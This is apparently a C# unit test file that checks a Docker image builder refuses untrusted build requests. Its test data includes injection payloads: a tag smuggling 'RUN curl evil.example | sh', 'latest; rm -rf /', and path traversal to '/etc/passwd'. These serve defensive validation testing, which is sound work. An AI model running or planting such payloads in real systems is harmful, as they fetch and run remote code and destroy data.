using Toolforge.Agents.BuilderAgent.Daemon;
using Toolforge.Agents.BuilderAgent.Images;
using Toolforge.Agents.Contracts.V1;

namespace Toolforge.Agents.BuilderAgent.Tests;

/// <summary>The builder checks every build request again: a request that reaches it is not trusted for being there.</summary>
public sealed class BuildRequestTrustTests
{
    private static BuilderOptions Options() => new() { Repository = Fixtures.Images, Registry = Fixtures.FixtureRegistry, ImagePrefix = Fixtures.FixturePrefix };

    [Theory]
    [InlineData("testing\nRUN curl evil.example | sh")]
    [InlineData("latest; rm -rf /")]
    [InlineData("-x")]
    [InlineData("${HOME}")]
    public void ATagThatIsNotADockerTag_IsRefused_BeforeAnythingIsRendered(string tag)
    {
        var request = new BuildRequest { Tag = tag, Images = { "base-a" } };
        var ex = Assert.Throws<RepositoryException>(() => BuildQueueService.Accept(request, Options()));
        Assert.Contains("not a valid image tag", ex.Message, StringComparison.Ordinal);
        Assert.DoesNotContain('\n', ex.Message);
    }

    [Theory]
    [InlineData("../../etc")]
    [InlineData("/etc/passwd")]
    [InlineData("no-such-image")]
    public void AnImageThatIsNotInTheRepository_IsRefused(string image)
    {
        var request = new BuildRequest { Tag = "testing", Images = { image } };
        Assert.Throws<RepositoryException>(() => BuildQueueService.Accept(request, Options()));
    }

    [Fact]
    public void TooManyOrNoImages_AreRefused()
    {
        Assert.Throws<RepositoryException>(() => BuildQueueService.Accept(new BuildRequest { Tag = "testing" }, Options()));
        var many = new BuildRequest { Tag = "testing" };
        many.Images.AddRange(Enumerable.Repeat("base-a", 201));
        Assert.Throws<RepositoryException>(() => BuildQueueService.Accept(many, Options()));
    }

    [Fact]
    public void Promote_TagPolicy_ABuildRequestForLatest_IsRefused_LatestComesOnlyFromPromotion()
    {
        var ex = Assert.Throws<RepositoryException>(() => BuildQueueService.Accept(new BuildRequest { Tag = "latest", Images = { "base-a" } }, Options()));
        Assert.Contains("only from promotion", ex.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void AGoodRequest_GivesItsBuildOrder()
    {
        var (session, order) = BuildQueueService.Accept(new BuildRequest { Images = { "base-b/tools" } }, Options());
        Assert.Equal("testing", session.Naming.Tag);
        Assert.Equal(["base-b", "base-b/tools", "base-b/tools/cli"], order);
    }
}
